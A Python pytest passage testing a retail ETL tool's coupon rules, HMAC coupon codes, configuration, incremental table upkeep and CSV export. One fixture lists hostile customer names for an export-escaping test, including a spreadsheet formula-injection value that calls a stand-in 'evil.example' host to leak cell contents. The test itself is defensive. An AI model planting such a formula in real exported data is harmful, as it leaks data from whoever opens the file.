"""Coupon rules (coupons.py, [rules] in config.py): hand-computed expectations for each rule
and its edge cases, then the table kept by the pipeline, incrementally."""

from __future__ import annotations

import csv
import hmac
import stat
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pytest
from conftest import Env, csv_text
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import delete, insert, select
from sqlalchemy.exc import DataError
from typer.testing import CliRunner

from retail_etl.config import (
    DEFAULT_COUPON_RULES,
    FirstMonthRule,
    RulesSettings,
    Settings,
    SpendDropRule,
    TopSpendersRule,
    load_settings,
)
from retail_etl.errors import ConfigError, WarehouseError
from retail_etl.marts import coupons, merge
from retail_etl.warehouse.schema import customer, customer_coupons, customers_data_mart

D = Decimal
LOYALTY = TopSpendersRule(segment="loyalty", discount_pct=D("10"), share=D("0.10"))
WIN_BACK = SpendDropRule(segment="win-back", discount_pct=D("15"), drop_share=D("0.5"))
WELCOME = FirstMonthRule(segment="welcome", discount_pct=D("5"))
RULES = (LOYALTY, WIN_BACK, WELCOME)


def evaluate(*args: Any) -> list[coupons.Coupon]:
    """The coupons the rules give, as a list."""
    return list(coupons.coupons_of(*args))


def segments(found: list[coupons.Coupon]) -> dict[int, str]:
    return {c.customer_id: c.segment for c in found}


def spends(*values: str) -> dict[int, Decimal]:
    """Customers 1, 2, 3... with these spends."""
    return {i: D(v) for i, v in enumerate(values, start=1)}


# --- top spenders -------------------------------------------------------------------------
def test_top_ten_percent_of_twenty_spenders_is_two() -> None:
    current = spends(*[str(100 - i) for i in range(20)])  # 100, 99, ..., 81
    found = evaluate("2024-03", current, {}, set(current), (LOYALTY,))
    assert segments(found) == {1: "loyalty", 2: "loyalty"}


def test_top_share_rounds_up_so_eleven_spenders_give_two() -> None:
    current = spends(*[str(100 - i) for i in range(11)])  # ceil(0.1 x 11) = 2
    found = evaluate("2024-03", current, {}, set(current), (LOYALTY,))
    assert segments(found) == {1: "loyalty", 2: "loyalty"}


def test_ties_at_the_boundary_all_qualify() -> None:
    # 20 spenders: k = 2; the 2nd highest spend (90) is shared by customers 2 and 3.
    current = spends("100", "90", "90", *["80"] * 17)
    found = evaluate("2024-03", current, {}, set(current), (LOYALTY,))
    assert segments(found) == {1: "loyalty", 2: "loyalty", 3: "loyalty"}
    reasons = {c.customer_id: c.reason for c in found}
    assert reasons[1] == "top 10% of 20 spenders in 2024-03: rank 1, spent 100.00"
    assert reasons[2] == reasons[3] == "top 10% of 20 spenders in 2024-03: rank 2, spent 90.00"


def test_tie_just_below_the_boundary_does_not_qualify() -> None:
    current = spends("100", "90", "80", "80", *["70"] * 16)
    found = evaluate("2024-03", current, {}, set(current), (LOYALTY,))
    assert segments(found) == {1: "loyalty", 2: "loyalty"}


def test_everyone_tied_means_everyone_qualifies() -> None:
    current = spends(*["50"] * 10)
    found = evaluate("2024-03", current, {}, set(current), (LOYALTY,))
    assert len(found) == 10


def test_single_customer_is_the_top_spender() -> None:
    found = evaluate("2024-03", {7: D("12.50")}, {}, set(), RULES)
    assert [(c.customer_id, c.segment, c.discount_pct, c.total_sales) for c in found] == [
        (7, "loyalty", D("10"), D("12.50"))
    ]
    assert found[0].reason == "top 10% of 1 spenders in 2024-03: rank 1, spent 12.50"


def test_customers_who_spent_nothing_are_not_spenders() -> None:
    # 10 customers, but only 9 spent: k = ceil(0.9) = 1, and the zero spender never qualifies.
    current = spends(*[str(10 * (9 - i)) for i in range(10)])  # 90, 80, ..., 10, 0
    found = evaluate("2024-03", current, {}, set(current), (LOYALTY,))
    assert segments(found) == {1: "loyalty"}
    assert "of 9 spenders" in found[0].reason
    only_zero = evaluate("2024-03", {1: D("0")}, {}, {1}, (LOYALTY,))
    assert only_zero == []


def test_top_spenders_min_spend() -> None:
    rule = TopSpendersRule(segment="vip", discount_pct=D("20"), share=D("0.5"), min_spend=D("60"))
    current = spends("100", "59.99", "10", "5")  # k = 2: customers 1 and 2, but 2 spent < 60
    found = evaluate("2024-03", current, {}, set(current), (rule,))
    assert segments(found) == {1: "vip"}


# --- spend drop -----------------------------------------------------------------------------
def test_spend_fell_by_exactly_half_qualifies_and_a_cent_less_does_not() -> None:
    previous = {1: D("100.00"), 2: D("100.00"), 3: D("100.00")}
    current = {1: D("50.00"), 2: D("50.01"), 3: D("20.00")}
    found = evaluate("2024-03", current, previous, set(current), (WIN_BACK,))
    assert segments(found) == {1: "win-back", 3: "win-back"}
    reasons = {c.customer_id: c.reason for c in found}
    assert reasons[1] == "spend fell 50% from 100.00 in 2024-02 to 50.00 in 2024-03"
    assert reasons[3] == "spend fell 80% from 100.00 in 2024-02 to 20.00 in 2024-03"


def test_no_purchase_this_month_counts_as_zero() -> None:
    found = evaluate("2024-01", {2: D("5")}, {1: D("40")}, {2}, (WIN_BACK,))
    assert [(c.customer_id, c.month, c.total_sales) for c in found] == [(1, "2024-01", D("0"))]
    assert found[0].reason == "spend fell 100% from 40.00 in 2023-12 to 0.00 in 2024-01"


def test_no_previous_month_is_no_win_back() -> None:
    found = evaluate("2024-03", {1: D("10")}, {}, {1}, (WIN_BACK,))
    assert found == []


def test_spend_drop_min_previous_spend() -> None:
    rule = SpendDropRule(
        segment="lapsed", discount_pct=D("5"), drop_share=D("0.25"), min_previous_spend=D("30")
    )
    previous = {1: D("29.99"), 2: D("40")}
    current = {1: D("0.01"), 2: D("30")}  # 2 fell exactly 25%
    found = evaluate("2024-03", current, previous, set(current), (rule,))
    assert segments(found) == {2: "lapsed"}


# --- first month ----------------------------------------------------------------------------
def test_first_month_needs_no_earlier_row() -> None:
    current = {1: D("10"), 2: D("20")}
    found = evaluate("2024-03", current, {}, {2}, (WELCOME,))
    assert segments(found) == {1: "welcome"}
    assert found[0].reason == "first purchases in 2024-03: spent 10.00"


def test_first_month_min_spend() -> None:
    rule = FirstMonthRule(segment="welcome", discount_pct=D("5"), min_spend=D("10"))
    found = evaluate("2024-03", {1: D("9.99"), 2: D("10")}, {}, set(), (rule,))
    assert segments(found) == {2: "welcome"}


# --- several rules ----------------------------------------------------------------------------
def test_first_matching_rule_wins() -> None:
    # 10 customers; customer 1 is the top spender (loyalty), also new and also fell from
    # 5000 the month before; customers 2..10 are new; 11 fell to nothing.
    current = {1: D("1000"), **{i: D("10") for i in range(2, 11)}}
    previous = {1: D("5000"), 11: D("100")}
    found = evaluate("2024-03", current, previous, set(), RULES)
    assert segments(found) == {1: "loyalty", **{i: "welcome" for i in range(2, 11)}, 11: "win-back"}
    reordered = evaluate("2024-03", current, previous, set(), (WELCOME, WIN_BACK, LOYALTY))
    assert segments(reordered)[1] == "welcome"


def test_no_rules_no_coupons() -> None:
    assert evaluate("2024-03", {1: D("10")}, {2: D("10")}, set(), ()) == []


# --- codes ----------------------------------------------------------------------------------------
def test_codes_are_deterministic_and_keyed() -> None:
    code = coupons.coupon_code(b"k", 42, "2024-03", "loyalty")
    assert code == coupons.coupon_code(b"k", 42, "2024-03", "loyalty")
    assert code.startswith("LOY-") and len(code) == 16
    others = {
        coupons.coupon_code(b"k", 43, "2024-03", "loyalty"),
        coupons.coupon_code(b"k", 42, "2024-04", "loyalty"),
        coupons.coupon_code(b"k", 42, "2024-03", "welcome"),
        coupons.coupon_code(b"other key", 42, "2024-03", "loyalty"),
    }
    assert code not in others and len(others) == 4
    assert coupons.coupon_code(b"k", 1, "2024-03", "win-back").startswith("WIN-")


def test_codes_keep_their_published_values() -> None:
    # customers hold these codes: a change of how they are computed must not change them
    assert coupons.coupon_code(b"k", 42, "2024-03", "loyalty") == "LOY-XGH9XNPE0GEV"
    assert (
        coupons.coupon_code(coupons.DEFAULT_SECRET, 1234567, "2024-12", "win-back")
        == "WIN-QDB2DMAZXHW7"
    )
    assert coupons.coupon_code(b"x" * 100, -7, "2024-01", "ünï €") == "N-A7M2NF8FTFDK"


def _reference_code(secret: bytes, customer_id: int, month: str, segment: str) -> str:
    """The documented formula with Python's hmac: the first 60 bits of
    HMAC-SHA256(secret, "customer_id|month|segment") in Crockford base 32."""
    digest = hmac.new(secret, f"{customer_id}|{month}|{segment}".encode(), "sha256").digest()
    number = int.from_bytes(digest[:8], "big") >> 4
    alphabet = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
    body = "".join(alphabet[(number >> shift) & 31] for shift in range(55, -1, -5))
    prefix = "".join(ch for ch in segment if ch.isascii() and ch.isalnum()).upper()[:3]
    return f"{prefix}-{body}"


@settings(max_examples=60, deadline=None)
@given(
    secret=st.binary(max_size=150),  # longer than SHA-256's 64-byte block: hashed first
    rows=st.lists(
        st.tuples(
            st.integers(-(2**63), 2**63 - 1),
            st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=12),
        ),
        max_size=20,
    ),
    month=st.sampled_from(["2024-03", "1999-12", "9999-12"]),
)
def test_codes_are_the_hmac_of_customer_month_and_segment(
    secret: bytes, rows: list[tuple[int, str]], month: str
) -> None:
    ids = pa.array([customer_id for customer_id, _ in rows], pa.int64())
    segments = pa.array([segment for _, segment in rows], pa.string())
    assert coupons.coupon_codes(secret, ids, month, segments).to_pylist() == [
        _reference_code(secret, customer_id, month, segment) for customer_id, segment in rows
    ]


def test_month_arithmetic() -> None:
    assert coupons.shift_month("2024-01", -1) == "2023-12"
    assert coupons.shift_month("2023-12", 1) == "2024-01"
    assert coupons.shift_month("2024-03", -14) == "2023-01"


# --- configuration --------------------------------------------------------------------------------
def test_default_rules() -> None:
    rules = Settings().rules
    assert rules.coupons == DEFAULT_COUPON_RULES
    assert [(r.kind, r.segment) for r in rules.coupons] == [
        ("top_spenders", "loyalty"),
        ("spend_drop", "win-back"),
        ("first_month", "welcome"),
    ]


def test_rules_from_toml(tmp_path: Path) -> None:
    path = tmp_path / "retail-etl.toml"
    path.write_text(
        "[rules]\nincentive_rate = 0.02\ncoupon_secret = 's3cret'\n"
        "[[rules.coupons]]\nkind = 'first_month'\nsegment = 'hello'\ndiscount_pct = 7.5\n"
        "[[rules.coupons]]\nkind = 'top_spenders'\nsegment = 'vip'\ndiscount_pct = 20\n"
        "share = 0.05\nmin_spend = 100\n",
        encoding="utf-8",
    )
    rules = load_settings(path).rules
    assert rules.coupons == (
        FirstMonthRule(segment="hello", discount_pct=D("7.5")),
        TopSpendersRule(segment="vip", discount_pct=D("20"), share=D("0.05"), min_spend=D("100")),
    )
    assert coupons.secret_of(rules) == b"s3cret"


@pytest.mark.parametrize(
    "table, problem",
    [
        ("kind = 'first_month'\nsegment = 'a'\ndiscount_pct = 5\ncolour = 1", "colour"),
        ("kind = 'birthday'\nsegment = 'a'\ndiscount_pct = 5", "birthday"),
        ("kind = 'first_month'\nsegment = 'a'\ndiscount_pct = 0", "discount_pct"),
        ("kind = 'first_month'\nsegment = 'Bad Name'\ndiscount_pct = 5", "segment"),
        ("kind = 'top_spenders'\nsegment = 'a'\ndiscount_pct = 5\nshare = 1.5", "share"),
    ],
)
def test_bad_rules_are_rejected(tmp_path: Path, table: str, problem: str) -> None:
    path = tmp_path / "retail-etl.toml"
    path.write_text(f"[[rules.coupons]]\n{table}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=problem):
        load_settings(path)


def test_duplicate_segments_are_rejected(tmp_path: Path) -> None:
    path = tmp_path / "retail-etl.toml"
    rule = "[[rules.coupons]]\nkind = 'first_month'\nsegment = 'a'\ndiscount_pct = 5\n"
    path.write_text(rule * 2, encoding="utf-8")
    with pytest.raises(ConfigError, match="defined twice"):
        load_settings(path)


def test_coupon_secret_may_be_encrypted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from retail_etl import secrets

    key = secrets.generate_key()
    monkeypatch.setenv(secrets.KEY_ENV, key)
    token = secrets.encrypt("s3cret", secrets.parse_key(key, "test"))
    path = tmp_path / "retail-etl.toml"
    path.write_text(f"[rules]\ncoupon_secret = '{token}'\n", encoding="utf-8")
    rules = load_settings(path).rules
    assert coupons.secret_of(rules) == b"s3cret"
    assert "s3cret" not in repr(rules)


def test_rules_from_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RETAIL_ETL_RULES__COUPONS", "[]")
    assert load_settings().rules.coupons == ()


# --- the table, kept by the pipeline --------------------------------------------------------------
def sale(customer_id: int, day: str, total: str, store_id: int = 1, person: int = 2) -> str:
    return f"{customer_id},{store_id},Whole Milk 1L,{day},{person},{total},1,{total}"


def table_rows(env: Env) -> list[tuple[str, int, str, Decimal, Decimal, str]]:
    t = customer_coupons
    with env.warehouse.begin() as conn:
        rows = conn.execute(select(t).order_by(t.c.month, t.c.customer_id)).fetchall()
    return [
        (r.month, r.customer_id, r.segment, r.discount_pct, r.total_sales, r.code) for r in rows
    ]


def by_month(env: Env) -> dict[str, dict[int, str]]:
    out: dict[str, dict[int, str]] = {}
    for month, customer_id, segment, *_rest in table_rows(env):
        out.setdefault(month, {})[customer_id] = segment
    return out


FEB = csv_text(*[sale(c, "2024-02-10", str(10 * c)) for c in range(1, 11)])  # 1..10: 10..100
MAR = csv_text(
    sale(1, "2024-03-05", "10"),  # 10 -> 10
    sale(2, "2024-03-05", "5"),  # 20 -> 5: fell 75%
    sale(10, "2024-03-05", "50"),  # 100 -> 50: fell exactly half, but top spender
    sale(11, "2024-03-05", "30"),  # new in March
    sale(3, "2024-03-06", "15"),  # 30 -> 15: fell exactly half
    # 4..9 bought nothing in March: all fell 100%
)
EXPECTED = {
    "2024-02": {10: "loyalty", **{c: "welcome" for c in range(1, 10)}},
    "2024-03": {
        10: "loyalty",
        2: "win-back",
        3: "win-back",
        **{c: "win-back" for c in range(4, 10)},
        11: "welcome",
    },
    # April has no sales loaded: no coupons, even though everyone's spend "fell".
}


def test_pipeline_keeps_the_coupon_table(env: Env) -> None:
    env.land("feb.csv", FEB)
    env.land("mar.csv", MAR)
    env.run()
    assert by_month(env) == EXPECTED
    rows = table_rows(env)
    assert (
        "2024-03",
        2,
        "win-back",
        D("15.00"),
        D("5.00"),
        coupons.coupon_code(coupons.DEFAULT_SECRET, 2, "2024-03", "win-back"),
    ) in rows


def test_an_index_on_code_added_by_the_user_stays_right(env: Env) -> None:
    """README: the tool leaves code unindexed, and works with an index someone adds."""
    with env.warehouse.begin() as conn:
        conn.exec_driver_sql("CREATE INDEX ix_customer_coupons_code ON customer_coupons (code)")
    env.land("mar.csv", MAR)
    env.run()
    env.land("feb.csv", FEB)  # rewrites March's coupons: welcome becomes win-back
    env.run()
    assert by_month(env) == EXPECTED
    code = coupons.coupon_code(coupons.DEFAULT_SECRET, 2, "2024-03", "win-back")
    with env.warehouse.begin() as conn:
        found = conn.execute(
            select(customer_coupons.c.month, customer_coupons.c.customer_id).where(
                customer_coupons.c.code == code
            )
        ).all()
    assert found == [("2024-03", 2)]


def expected_rows() -> list[tuple[str, int, str, Decimal, Decimal, str]]:
    """EXPECTED as full rows: discount from the default rules, spend, deterministic code."""
    spend = {
        "2024-02": {c: D(10 * c) for c in range(1, 11)},
        "2024-03": {1: D(10), 2: D(5), 3: D(15), 10: D(50), 11: D(30)},
    }
    pct = {"loyalty": D("10"), "win-back": D("15"), "welcome": D("5")}
    return [
        (
            month,
            c,
            segment,
            pct[segment],
            spend[month].get(c, D(0)),
            coupons.coupon_code(coupons.DEFAULT_SECRET, c, month, segment),
        )
        for month, chosen in sorted(EXPECTED.items())
        for c, segment in sorted(chosen.items())
    ]


@pytest.mark.parametrize(
    "batches",
    [[["feb.csv", "mar.csv"]], [["feb.csv"], ["mar.csv"]], [["mar.csv"], ["feb.csv"]]],
    ids=["one-run", "in-order", "february-late"],
)
def test_batching_does_not_change_the_coupons(env: Env, batches: list[list[str]]) -> None:
    files = {"feb.csv": FEB, "mar.csv": MAR}
    for batch in batches:
        for name in batch:
            env.land(name, files[name])
        env.run()
    assert table_rows(env) == expected_rows()


def test_march_alone_then_february(env: Env) -> None:
    env.land("mar.csv", MAR)
    env.run()
    assert by_month(env) == {
        "2024-03": {10: "loyalty", 1: "welcome", 2: "welcome", 3: "welcome", 11: "welcome"}
    }
    env.land("feb.csv", FEB)
    env.run()
    assert by_month(env) == EXPECTED


def test_correction_moves_a_first_month(env: Env) -> None:
    env.land("feb.csv", FEB)
    env.land("mar.csv", MAR)
    env.run()
    # February is corrected: customer 1 did not buy then, so March is their first month.
    # Customer 10's February spend drops to 5: in March (50) they are no longer "fallen".
    corrected = [sale(c, "2024-02-10", str(10 * c)) for c in range(2, 10)]
    env.land("feb.csv", csv_text(*corrected, sale(10, "2024-02-10", "5")))
    summary = env.run()
    assert summary.files_corrected == 1
    got = by_month(env)
    assert got["2024-02"] == {9: "loyalty", **{c: "welcome" for c in range(2, 9)}, 10: "welcome"}
    assert got["2024-03"] == {
        10: "loyalty",
        1: "welcome",
        11: "welcome",
        2: "win-back",
        3: "win-back",
        **{c: "win-back" for c in range(4, 10)},
    }


def test_correction_makes_a_later_month_the_first(env: Env) -> None:
    env.land("feb.csv", csv_text(sale(1, "2024-02-01", "10"), sale(2, "2024-02-01", "20")))
    env.land(
        "apr.csv",
        csv_text(
            sale(1, "2024-04-01", "10"), sale(2, "2024-04-01", "10"), sale(3, "2024-04-01", "100")
        ),
    )
    env.run()
    assert by_month(env) == {"2024-02": {2: "loyalty", 1: "welcome"}, "2024-04": {3: "loyalty"}}
    # Customer 1 did not buy in February after all: April (not next to February) becomes
    # their first month.
    env.land("feb.csv", csv_text(sale(2, "2024-02-01", "20")))
    env.run()
    assert by_month(env) == {"2024-02": {2: "loyalty"}, "2024-04": {3: "loyalty", 1: "welcome"}}


def test_late_earlier_month_removes_a_later_welcome(env: Env) -> None:
    env.land("feb.csv", FEB)
    env.land("mar.csv", MAR)
    env.run()
    assert by_month(env)["2024-03"][11] == "welcome"
    # Customer 11 turns out to have bought in January: March is not their first month, and
    # February (the month after the late data) gets a win-back for them.
    env.land("jan.csv", csv_text(sale(11, "2024-01-20", "500")))
    env.run()
    got = by_month(env)
    assert 11 not in got["2024-03"]
    assert got["2024-02"][11] == "win-back"
    assert got["2024-01"] == {11: "loyalty"}


def changed(customer_id: int, month: str) -> pa.Table:
    """One changed customers_data_mart row, as merge.apply reports it."""
    return pa.table(
        {
            "customer_id": pa.array([customer_id], pa.int64()),
            "sales_date_month": pa.array([date.fromisoformat(f"{month}-01")], pa.date32()),
        }
    )


def test_months_to_refresh_is_small(env: Env) -> None:
    env.land("feb.csv", FEB)
    env.land("mar.csv", MAR)
    env.run()
    rules = RulesSettings()
    with env.warehouse.begin() as conn:
        # a returning customer changing in March: March and April only
        assert coupons.months_to_refresh(conn, changed(2, "2024-03"), rules) == {
            "2024-03",
            "2024-04",
        }
        # customer 11 changing in January: their first month (March) too
        assert coupons.months_to_refresh(conn, changed(11, "2024-01"), rules) == {
            "2024-01",
            "2024-02",
            "2024-03",
        }
        only_top = RulesSettings(coupons=(LOYALTY,))
        assert coupons.months_to_refresh(conn, changed(11, "2024-01"), only_top) == {"2024-01"}
        # customer 11 changing in February (no sales taken out): February, and March as
        # the next month and the month of their welcome coupon
        assert coupons.months_to_refresh(conn, changed(11, "2024-02"), rules, False) == {
            "2024-02",
            "2024-03",
        }
        # customer 4 (February only) changing in January, sales taken out: their first
        # month (February) is looked up, and is also the next month
        assert coupons.months_to_refresh(conn, changed(4, "2024-01"), rules, True) == {
            "2024-01",
            "2024-02",
        }


@pytest.mark.parametrize("range_rows", [100_000, 3, 1])
def test_recomputing_a_month_mends_every_stored_row(
    env: Env, monkeypatch: pytest.MonkeyPatch, range_rows: int
) -> None:
    """Whatever the stored rows hold (missing, changed or stray rows), and however many
    customers are compared at a time."""
    monkeypatch.setattr(coupons, "RANGE_ROWS", range_rows)
    env.land("feb.csv", FEB)
    env.land("mar.csv", MAR)
    env.run()
    t = customer_coupons
    with env.warehouse.begin() as conn:
        # damage March: a coupon missing, one changed, stray ones before and after the
        # customers who earn one (March's are 2..11; 1 earns none)
        conn.execute(t.delete().where(t.c.month == "2024-03", t.c.customer_id == 5))
        conn.execute(
            t.update()
            .where(t.c.month == "2024-03", t.c.customer_id == 2)
            .values(segment="loyalty", reason="stale")
        )
        stray = {"month": "2024-03", "segment": "loyalty", "discount_pct": D("10"),
                 "reason": "stray", "code": "X", "total_sales": D("1")}  # fmt: skip
        for customer_id in (1, 12, 500):
            conn.execute(t.insert().values(customer_id=customer_id, **stray))
        # and a coupon in April, which has no sales loaded and so earns none
        conn.execute(t.insert().values(customer_id=3, **(stray | {"month": "2024-04"})))
    assert table_rows(env) != expected_rows()
    with env.warehouse.begin() as conn:
        coupons.replace_month(env.warehouse, conn, "2024-03", RulesSettings())
        coupons.replace_month(env.warehouse, conn, "2024-04", RulesSettings())
    assert table_rows(env) == expected_rows()


def test_a_range_of_coupons_that_cannot_be_written_fails_the_whole_month(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A month's coupons are written a range of customers at a time, the next range computed
    while one is written: a write that fails stops the month there, with its error, and the
    transaction then holds none of the month's new coupons."""
    monkeypatch.setattr(coupons, "RANGE_ROWS", 3)  # March's coupons (2..11): 4 ranges
    env.land("feb.csv", FEB)
    env.land("mar.csv", MAR)
    env.run()
    before = table_rows(env)
    upsert, written = coupons.bulk.upsert, []

    def refusing_customer_5(conn: Any, table: Any, data: pa.Table) -> None:
        ids = data["customer_id"].to_pylist()
        written.append(ids)
        if 5 in ids:
            raise DataError("LOAD DATA", None, Exception("refused"))
        upsert(conn, table, data)

    monkeypatch.setattr(coupons.bulk, "upsert", refusing_customer_5)
    t = customer_coupons
    with pytest.raises(WarehouseError, match="refused"), env.warehouse.begin() as conn:
        conn.execute(t.delete().where(t.c.month == "2024-03"))
        coupons.replace_month(env.warehouse, conn, "2024-03", RulesSettings())
    assert 5 in written[-1]  # nothing written after the range that failed
    assert table_rows(env) == before


def test_recomputing_a_month_writes_only_the_coupons_that_differ(env: Env) -> None:
    """A nightly batch changes few of a month's coupons: the rest are not written again
    (SQLite's upsert skips them itself, MySQL's path compares them with the stored ones)."""
    env.land("feb.csv", FEB)
    env.land("mar.csv", MAR)
    env.run()
    t = customer_coupons
    with env.warehouse.begin() as conn:
        before = env.warehouse.rows_written
        coupons.replace_month(env.warehouse, conn, "2024-03", RulesSettings())
        assert env.warehouse.rows_written == before
        conn.execute(
            t.update().where(t.c.month == "2024-03", t.c.customer_id == 2).values(reason="stale")
        )
        before = env.warehouse.rows_written
        coupons.replace_month(env.warehouse, conn, "2024-03", RulesSettings())
        assert env.warehouse.rows_written == before + 1
    assert table_rows(env) == expected_rows()


def test_export_csv_and_refresh(env: Env, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from retail_etl.cli import app

    env.land("feb.csv", FEB)
    env.run()
    config = tmp_path / "retail-etl.toml"
    config.write_text(
        f"[storage]\nurl = '{env.settings.storage.url}'\n"
        f"[warehouse]\nurl = '{env.settings.warehouse.url.get_secret_value()}'\n"
        f"[log]\ndir = '{tmp_path / 'logs'}'\n",
        encoding="utf-8",
    )
    out = tmp_path / "exports" / "coupons.csv"
    runner = CliRunner()
    result = runner.invoke(
        app, ["--config", str(config), "coupons", "--month", "2024-02", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    with open(out, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(coupons.EXPORT_COLUMNS)
    assert [(r["customer_id"], r["segment"], r["discount_pct"]) for r in rows][:2] == [
        ("10", "loyalty", "10.00"),
        ("1", "welcome", "5.00"),
    ]
    assert rows[0]["full_name"] and rows[0]["code"].startswith("LOY-")
    assert len(rows) == 10

    # New rules apply to a past month only when asked.
    config.write_text(
        config.read_text(encoding="utf-8")
        + "[[rules.coupons]]\nkind = 'top_spenders'\nsegment = 'vip'\ndiscount_pct = 25\n"
        "share = 0.2\n",
        encoding="utf-8",
    )
    runner.invoke(
        app, ["--config", str(config), "coupons", "--month", "2024-02", "--out", str(out)]
    )
    assert len(out.read_text(encoding="utf-8").splitlines()) == 11
    result = runner.invoke(
        app,
        ["--config", str(config), "coupons", "--month", "2024-02", "--out", str(out), "--refresh"],
    )
    assert result.exit_code == 0, result.output
    with open(out, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["customer_id"], r["segment"]) for r in rows] == [("9", "vip"), ("10", "vip")]


# Names a spreadsheet would run as formulas, and names that break naive CSV records.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1",
    "-2",
    "@x",
    "\tx",
    "\rx",
    "a\rb",
    "a\nb",
    'a,"b"',
    "a\r\nb",
)


def test_export_is_safe_for_spreadsheets_with_one_record_per_coupon(
    embedded: Env, tmp_path: Path
) -> None:
    with embedded.warehouse.begin() as conn:
        for customer_id, name in enumerate(HOSTILE_NAMES, start=1):
            conn.execute(
                customer.update()
                .where(customer.c.customer_id == customer_id)
                .values(first_name=name, last_name=None)
            )
            conn.execute(
                customer_coupons.insert().values(
                    month="2024-02",
                    customer_id=customer_id,
                    segment="win-back",
                    discount_pct=D("15"),
                    reason=name,  # text the tool writes, treated like any other text
                    code=f"WIN-{customer_id}",
                    # a corrected month can leave a negative spend: still a number
                    total_sales=D("-12.50") if customer_id == 3 else D("100.00"),
                )
            )
    out = tmp_path / "coupons.csv"
    assert coupons.export_csv(embedded.warehouse, "2024-02", out) == len(HOSTILE_NAMES)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600, "it names customers: owner only"

    def shown(name: str) -> str:
        return "'" + name if name[0] in "=+-@\t\r" else name

    expected = [
        {
            "code": f"WIN-{customer_id}",
            "customer_id": str(customer_id),
            "full_name": shown(name),
            "month": "2024-02",
            "segment": "win-back",
            "discount_pct": "15.00",
            "total_sales": "-12.50" if customer_id == 3 else "100.00",
            "reason": shown(name),
        }
        for customer_id, name in enumerate(HOSTILE_NAMES, start=1)
    ]
    with open(out, encoding="utf-8", newline="") as handle:
        assert list(csv.DictReader(handle)) == expected
    read = duckdb.sql(f"SELECT * FROM read_csv('{out}', header = true, all_varchar = true)")
    assert [dict(zip(read.columns, row, strict=True)) for row in read.fetchall()] == expected
    # And as the bytes any other reader sees: every record ends CRLF, line breaks are quoted.
    assert out.read_bytes().count(b"\r\nWIN-") == len(HOSTILE_NAMES)


def test_export_rejects_a_bad_month(tmp_path: Path) -> None:
    from retail_etl.cli import app

    result = CliRunner().invoke(app, ["coupons", "--month", "2024-13", "--out", "x.csv"])
    assert result.exit_code != 0
    assert "YYYY-MM" in result.output


# --- the spends read beside the batch's transaction -------------------------------------------
MONTHS = ("2024-01", "2024-02", "2024-03", "2024-04")
cells = st.tuples(st.integers(1, 6), st.sampled_from(MONTHS))


def customer_deltas(added: dict[tuple[int, str], tuple[int, int]]) -> pa.Table:
    """merge.deltas' shape: one row per (customer, month), in key order."""
    keys = sorted(added)
    return pa.table(
        {
            "customer_id": pa.array([c for c, _m in keys], pa.int64()),
            "sales_date_month": pa.array([coupons.month_start(m) for _c, m in keys], pa.date32()),
            "total_cents": pa.array([added[k][0] for k in keys], pa.int64()),
            "sales_rows": pa.array([added[k][1] for k in keys], pa.int64()),
        }
    )


NO_SALES_TEAM = pa.table(
    {
        "store_id": pa.array([], pa.int64()),
        "sales_person_id": pa.array([], pa.int64()),
        "sales_month": pa.array([], pa.string()),
        "total_cents": pa.array([], pa.int64()),
        "sales_rows": pa.array([], pa.int64()),
    }
)


def store_history(env: Env, history: dict[tuple[int, str], int]) -> None:
    """Make the committed customers mart hold exactly these (customer, month) -> cents."""
    mart = customers_data_mart
    with env.warehouse.begin() as conn:
        conn.execute(delete(mart))
        if history:
            conn.execute(
                insert(mart),
                [
                    {
                        "customer_id": c,
                        "sales_date_month": coupons.month_start(m),
                        "total_sales": D(cents) / 100,
                        "total_cents": cents,
                        "sales_rows": 1,
                        "updated_at": datetime(2024, 5, 1),
                    }
                    for (c, m), cents in history.items()
                ],
            )


def assert_same_spends(got: coupons.Spends | None, want: coupons.Spends | None) -> None:
    assert (got is None) == (want is None)
    if got is not None and want is not None:
        for field in ("customer_id", "cents", "previous_cents", "in_month", "returning"):
            assert getattr(got, field).tolist() == getattr(want, field).tolist(), field


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    history=st.dictionaries(cells, st.integers(-500, 5000), max_size=12),
    added=st.dictionaries(
        cells, st.tuples(st.integers(-300, 3000), st.integers(1, 3)), min_size=1, max_size=8
    ),
)
def test_spends_read_before_a_batch_plus_its_deltas_are_the_spends_after_it(
    env: Env,
    history: dict[tuple[int, str], int],
    added: dict[tuple[int, str], tuple[int, int]],
) -> None:
    """What the commit computes from the spends read beside its transaction equals what the
    transaction would read once the batch is merged: every covered month, on both backends,
    whatever the history, late months included."""
    store_history(env, history)
    rules = RulesSettings()
    deltas = customer_deltas(added)
    before = coupons.SpendsBeforeBatch(env.warehouse, deltas, rules)
    try:
        assert before.months >= {m for _c, m in added}
        with env.warehouse.begin() as conn:
            merge.apply(env.warehouse, conn, deltas, NO_SALES_TEAM, False, D("0.01"))
            for month in sorted(before.months):
                assert before.covers(month)
                assert_same_spends(before.after(month), coupons._spends(conn, month, rules))
            conn.rollback()
    finally:
        before.close()


def test_a_failed_read_beside_the_commit_is_not_used_and_is_logged(
    env: Env, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def lost(*_args: object) -> None:
        raise WarehouseError("warehouse: Lost connection to server during query")

    monkeypatch.setattr(coupons, "_customers_before", lost)
    before = coupons.SpendsBeforeBatch(
        env.warehouse, customer_deltas({(1, "2024-03"): (500, 1)}), RulesSettings()
    )
    before.close()
    assert not before.covers("2024-03")
    assert "Lost connection" in caplog.text


def test_a_batch_that_only_adds_sales_reads_no_month_in_its_transaction_on_mysql(
